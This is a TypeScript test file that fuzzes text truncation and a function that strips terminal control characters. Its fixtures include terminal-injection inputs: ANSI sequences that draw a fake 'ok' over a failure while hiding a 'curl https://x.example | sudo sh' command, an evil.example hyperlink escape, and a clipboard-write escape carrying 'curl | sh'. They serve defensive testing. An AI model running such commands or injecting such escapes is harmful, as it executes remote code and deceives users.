import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CLOSE_REASON_MAX_BYTES, closeReason, stripControls, truncateChars, truncateUtf8 } from './text.js';

/** True when `text` has a high surrogate without its low one (or a low one alone) at `end`. */
const splitsPair = (text: string, end: number) => {
  const before = text.charCodeAt(end - 1);
  const after = text.charCodeAt(end);
  return before >= 0xd800 && before <= 0xdbff && after >= 0xdc00 && after <= 0xdfff;
};

const stripEllipsis = (text: string) => (text.endsWith('…') ? text.slice(0, -1) : text);

describe('truncateUtf8', () => {
  it('keeps short text as it is', () => {
    expect(truncateUtf8('héllo', 10)).toBe('héllo');
    expect(truncateUtf8('', 0)).toBe('');
  });

  it('cuts between characters and marks the cut', () => {
    // 'é' is 2 bytes: 4 of them do not fit in 7, and with the 3-byte ellipsis only 2 do.
    expect(truncateUtf8('éééé', 7)).toBe('éé…');
    expect(truncateUtf8('🦄🦄', 7)).toBe('🦄…');
    expect(truncateUtf8('🦄🦄', 5)).toBe('🦄');
    expect(Buffer.byteLength(truncateUtf8('🦄🦄', 7))).toBeLessThanOrEqual(7);
  });

  it('fuzz: never over the limit, always a prefix, never half a character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.nat(300), (text, max) => {
        const cut = truncateUtf8(text, max);
        expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(Math.max(max, 0));
        const kept = cut === text ? text : stripEllipsis(cut);
        expect(text.startsWith(kept)).toBe(true);
        if (kept !== text) expect(splitsPair(text, kept.length)).toBe(false);
      }),
      { numRuns: 5000 },
    );
  });
});

describe('truncateChars', () => {
  it('fuzz: never over the limit in code units, never half a surrogate pair', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 100 }), fc.nat(120), (text, max) => {
        const cut = truncateChars(text, max);
        expect(cut.length).toBeLessThanOrEqual(max);
        const kept = cut === text ? text : stripEllipsis(cut);
        expect(text.startsWith(kept)).toBe(true);
        if (kept !== text) expect(splitsPair(text, kept.length)).toBe(false);
      }),
      { numRuns: 5000 },
    );
  });
});

describe('closeReason', () => {
  it('fits RFC 6455 and stays valid UTF-8 whatever the text (ws throws on anything else)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 120 }), (text) => {
        const reason = closeReason(`invalid control frame at headers.${text}`);
        const bytes = Buffer.from(reason);
        expect(bytes.byteLength).toBeLessThanOrEqual(CLOSE_REASON_MAX_BYTES);
        expect(bytes.toString('utf8')).toBe(reason);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('stripControls', () => {
  // Anything a terminal could act on: C0 but tab/LF, DEL, C1, bidi controls.
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what must never come out.
  const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

  it('keeps ordinary text, non-ASCII included, as it is', () => {
    const text = 'the relay refused it (401 invalid_client_token): 油猴脚本 — ünïcødé 🌍 [x] ~ok~';
    expect(stripControls(text)).toBe(text);
  });

  it('removes a fake "ok" line written over a "fail" line, whole', () => {
    const attack =
      'bad token\r\u001b[2K\u001b[1A\u001b[2K\u001b[32mok  \u001b[0m token: accepted -> run curl https://x.example | sudo sh\u001b[8m hidden';
    const out = stripControls(attack);
    expect(out).not.toMatch(UNSAFE);
    expect(out).toBe('bad tokenok   token: accepted -> run curl https://x.example | sudo sh hidden');
  });

  it('removes OSC (title, hyperlink, clipboard), DCS and the C1 forms, terminated or not', () => {
    expect(stripControls('a\u001b]0;owned\u0007b')).toBe('ab');
    expect(stripControls('a\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\b')).toBe('alinkb');
    expect(stripControls('a\u001b]52;c;Y3VybCB8IHNo\u0007b')).toBe('ab');
    expect(stripControls('a\u001bP1$r\u001b\\b')).toBe('ab');
    expect(stripControls('a\u009b31mb\u009d0;t\u009cc')).toBe('abc');
    expect(stripControls('a\u001b]0;never ends')).toBe('a');
    expect(stripControls('a\u001bcb\u001b7c\u001b(Bd')).toBe('abcd');
  });

  it('removes bidi overrides and isolates', () => {
    expect(stripControls('fail\u202e ko \u202c\u2067x\u2069')).toBe('fail ko x');
  });

  it('turns line breaks into spaces on one line, keeps them when multiline', () => {
    expect(stripControls('a\nb\tc\u2028d')).toBe('a b c d');
    expect(stripControls('a\r\nb\tc\u2029d', { multiline: true })).toBe('a\nb\tc\nd');
  });

  it('never lets an unsafe character through, whatever the input', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), fc.boolean(), (text, multiline) => {
        const out = stripControls(text, { multiline });
        expect(out).not.toMatch(UNSAFE);
        if (!multiline) expect(out).not.toMatch(/[\n\t\u2028\u2029]/);
        // Only removals and replacements by a space or line feed: never longer.
        expect(out.length).toBeLessThanOrEqual(text.length);
      }),
      { numRuns: 2000 },
    );
  });

  it('stays linear on 4 MiB of hostile input', () => {
    for (const text of [
      '\u001b]'.repeat(2 * 1024 * 1024),
      `\u001b[${'0;'.repeat(2 * 1024 * 1024)}`,
      '\u001b'.repeat(4 * 1024 * 1024),
      '\u009b\u001b['.repeat(1024 * 1024),
    ]) {
      const started = performance.now();
      expect(stripControls(text)).not.toMatch(UNSAFE);
      // Generous for a shared CI box; quadratic behaviour would take minutes.
      expect(performance.now() - started).toBeLessThan(2_000);
    }
  });
});
